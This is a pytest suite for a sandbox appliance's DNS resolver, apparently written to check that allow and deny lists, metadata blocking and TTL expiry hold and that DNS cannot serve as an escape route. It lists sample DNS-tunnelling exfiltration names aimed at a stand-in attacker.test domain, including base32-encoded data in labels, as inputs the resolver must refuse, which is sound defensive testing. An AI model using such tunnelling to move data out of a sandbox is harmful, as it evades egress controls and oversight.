"""The node resolver: guests resolve through their gateway; domain allow lists follow the answers."""

from __future__ import annotations

import socket
import struct

import pytest
import trio
from networld import (
    INTERNET_IP,
    DnsUpstream,
    SandboxFactory,
    World,
    connects,
    dns_response,
    dropped,
    probe_payload,
    serving,
    socket_in,
)

from appliance.net import CubeVS, NetworkPolicy, service
from appliance.net.dns import parse_answer


def dns_query(name: str, qid: int = 0x1234) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!6H", qid, 0x0100, 1, 0, 0, 0) + labels + b"\x00" + struct.pack("!HH", 1, 1)


async def resolve_udp(guest_path: str, resolver_ip: str, name: str) -> list[str]:
    with await socket_in(guest_path, socket.SOCK_DGRAM) as sock, trio.fail_after(3):
        await sock.sendto(dns_query(name), (resolver_ip, 53))
        answer = parse_answer(await sock.recv(4096))
    assert answer is not None and answer.qname == name
    return [str(address) for address, _ttl in answer.addresses]


async def resolve_tcp(guest_path: str, resolver_ip: str, name: str) -> list[str]:
    with await socket_in(guest_path) as sock, trio.fail_after(3):
        await sock.connect((resolver_ip, 53))
        query = dns_query(name)
        await sock.send(struct.pack("!H", len(query)) + query)
        data = b""
        while len(data) < 2 or len(data) < 2 + struct.unpack("!H", data[:2])[0]:
            chunk = await sock.recv(4096)
            assert chunk
            data += chunk
    answer = parse_answer(data[2:])
    assert answer is not None
    return [str(address) for address, _ttl in answer.addresses]


def test_parse_answer() -> None:
    answer = parse_answer(dns_response(dns_query("svc.example.test")))
    assert answer is not None and answer.qname == "svc.example.test"
    assert [(str(a), ttl) for a, ttl in answer.addresses] == [(INTERNET_IP, 300)]
    assert parse_answer(b"\x00\x01garbage") is None


async def test_domain_allow_list_learns_answers(vs: CubeVS, world: World, sandbox: SandboxFactory) -> None:
    policy = NetworkPolicy(allow_internet_access=False, allow_out=("*.example.test",))
    async with (
        sandbox(policy) as (net, guest),
        serving(world.hosts["inet"].path),
        serving(world.hosts["meta"].path),
    ):
        assert await dropped(vs, net, guest.netns_path, INTERNET_IP, probe_payload(b"dns1"))
        assert await resolve_udp(guest.netns_path, net.resolver_ip, "svc.example.test") == [INTERNET_IP]
        assert await connects(guest.netns_path, INTERNET_IP)
        # A name that resolves to the metadata service does not open it.
        assert await resolve_udp(guest.netns_path, net.resolver_ip, "metadata.example.test") == [
            "169.254.169.254"
        ]
        assert await dropped(vs, net, guest.netns_path, "169.254.169.254", probe_payload(b"dns2"))
        # Dropping the domain from the list drops what was learned for it.
        await vs.update_policy(net.sandbox_id, NetworkPolicy(allow_internet_access=False))
        assert await dropped(vs, net, guest.netns_path, INTERNET_IP, probe_payload(b"dns3"))


async def test_tcp_queries_and_apex_is_not_a_wildcard_match(
    vs: CubeVS, world: World, sandbox: SandboxFactory
) -> None:
    policy = NetworkPolicy(allow_internet_access=False, allow_out=("*.example.test",))
    async with sandbox(policy) as (net, guest), serving(world.hosts["inet"].path):
        # Without egress, the apex is not even looked up (test_no_egress_means_no_dns_tunnel).
        assert await rcode_tcp(guest.netns_path, net.resolver_ip, "example.test") == RCODE_REFUSED
        assert await dropped(vs, net, guest.netns_path, INTERNET_IP, probe_payload(b"dns4"))
        assert await resolve_tcp(guest.netns_path, net.resolver_ip, "svc.example.test") == [INTERNET_IP]
        assert await connects(guest.netns_path, INTERNET_IP)


async def test_domain_deny_list(vs: CubeVS, world: World, sandbox: SandboxFactory) -> None:
    policy = NetworkPolicy(deny_out=("svc.example.test",))
    async with sandbox(policy) as (net, guest), serving(world.hosts["inet"].path):
        assert await connects(guest.netns_path, INTERNET_IP)
        await resolve_udp(guest.netns_path, net.resolver_ip, "svc.example.test")
        assert await dropped(vs, net, guest.netns_path, INTERNET_IP, probe_payload(b"dns5"))


async def test_learned_addresses_expire_with_their_ttl(
    vs: CubeVS, world: World, sandbox: SandboxFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Production keeps answers >= 2 min; shrink the floors to see the TTL (1 s) itself.
    monkeypatch.setattr(service, "_LEARNED_MIN_S", 0.0)
    monkeypatch.setattr(service, "_LEARNED_GRACE_S", 0.0)
    policy = NetworkPolicy(allow_internet_access=False, allow_out=("*.example.test",))
    async with sandbox(policy) as (net, guest), serving(world.hosts["inet"].path):
        assert await resolve_udp(guest.netns_path, net.resolver_ip, "short.example.test") == [INTERNET_IP]
        assert await connects(guest.netns_path, INTERNET_IP)
        await trio.sleep(1.0 + service._EXPIRY_CHECK_S + 0.5)
        assert await dropped(vs, net, guest.netns_path, INTERNET_IP, probe_payload(b"dns6"))


# --- DNS is not a tunnel out of a sandbox without egress (issue #14.16) -------------------

RCODE_NOERROR, RCODE_REFUSED = 0, 5


def dns_query_typed(name: str, qtype: int, qid: int) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!6H", qid, 0x0100, 1, 0, 0, 0) + labels + b"\x00" + struct.pack("!HH", qtype, 1)


async def rcode_udp(guest_path: str, resolver_ip: str, name: str, qtype: int = 1) -> int:
    """The response code the sandbox's resolver gives (waits for an answer: one must come)."""
    with await socket_in(guest_path, socket.SOCK_DGRAM) as sock, trio.fail_after(3):
        await sock.sendto(dns_query_typed(name, qtype, 0x4242), (resolver_ip, 53))
        response = await sock.recv(4096)
    assert response[:2] == b"\x42\x42"
    return struct.unpack_from("!H", response, 2)[0] & 0xF


async def rcode_tcp(guest_path: str, resolver_ip: str, name: str, qtype: int = 1) -> int:
    with await socket_in(guest_path) as sock, trio.fail_after(3):
        await sock.connect((resolver_ip, 53))
        query = dns_query_typed(name, qtype, 0x4343)
        await sock.send(struct.pack("!H", len(query)) + query)
        data = b""
        while len(data) < 4:
            chunk = await sock.recv(4096)
            assert chunk
            data += chunk
    return struct.unpack_from("!H", data, 4)[0] & 0xF


TUNNELLED = (
    "mzxw6ytboi.secret-1.exfil.attacker.test",  # base32 data in labels: the classic tunnel
    "c2VjcmV0LTI.example.test.attacker.test",  # an allowed suffix in the middle is no match
    "example.test",  # the apex is not matched by "*.example.test"
)


@pytest.mark.parametrize(
    "policy",
    [
        NetworkPolicy(allow_internet_access=False, allow_out=("*.example.test", "198.51.100.0/24")),
        NetworkPolicy(deny_out=("0.0.0.0/0",), allow_out=("*.example.test",)),
    ],
    ids=["no-internet", "deny-all"],
)
async def test_no_egress_means_no_dns_tunnel(
    vs: CubeVS, upstream_server: DnsUpstream, sandbox: SandboxFactory, policy: NetworkPolicy
) -> None:
    async with sandbox(policy) as (net, guest):
        for name in TUNNELLED:
            assert await rcode_udp(guest.netns_path, net.resolver_ip, name) == RCODE_REFUSED, name
            assert await rcode_tcp(guest.netns_path, net.resolver_ip, name) == RCODE_REFUSED, name
        assert (
            await rcode_udp(guest.netns_path, net.resolver_ip, "txt-data.attacker.test", 16) == RCODE_REFUSED
        )
        # What the allow list needs still resolves, over both transports.
        assert await rcode_udp(guest.netns_path, net.resolver_ip, "svc.example.test") == RCODE_NOERROR
        assert await rcode_tcp(guest.netns_path, net.resolver_ip, "svc.example.test") == RCODE_NOERROR
        assert set(upstream_server.names) == {"svc.example.test"}
        # A policy update that closes the list closes the names with it.
        await vs.update_policy(net.sandbox_id, NetworkPolicy(allow_internet_access=False))
        assert await rcode_udp(guest.netns_path, net.resolver_ip, "svc.example.test") == RCODE_REFUSED
        assert upstream_server.names.count("svc.example.test") == 2


async def test_with_internet_every_name_resolves(
    upstream_server: DnsUpstream, sandbox: SandboxFactory
) -> None:
    async with sandbox(NetworkPolicy()) as (net, guest):
        assert await rcode_udp(guest.netns_path, net.resolver_ip, "svc.example.test") == RCODE_NOERROR
        assert await rcode_udp(guest.netns_path, net.resolver_ip, "nothing.attacker.test") == 3  # NXDOMAIN
        assert upstream_server.names == ["svc.example.test", "nothing.attacker.test"]


async def test_unknown_clients_are_refused(vs: CubeVS, upstream_server: DnsUpstream) -> None:
    """Only sandboxes use the resolver: a query from anywhere else is not forwarded."""
    with trio.socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock, trio.fail_after(3):
        await sock.sendto(dns_query_typed("svc.example.test", 1, 0x4444), (vs.addressing.resolver_ip, 53))
        response = await sock.recv(4096)
    assert struct.unpack_from("!H", response, 2)[0] & 0xF == RCODE_REFUSED
    assert upstream_server.names == []
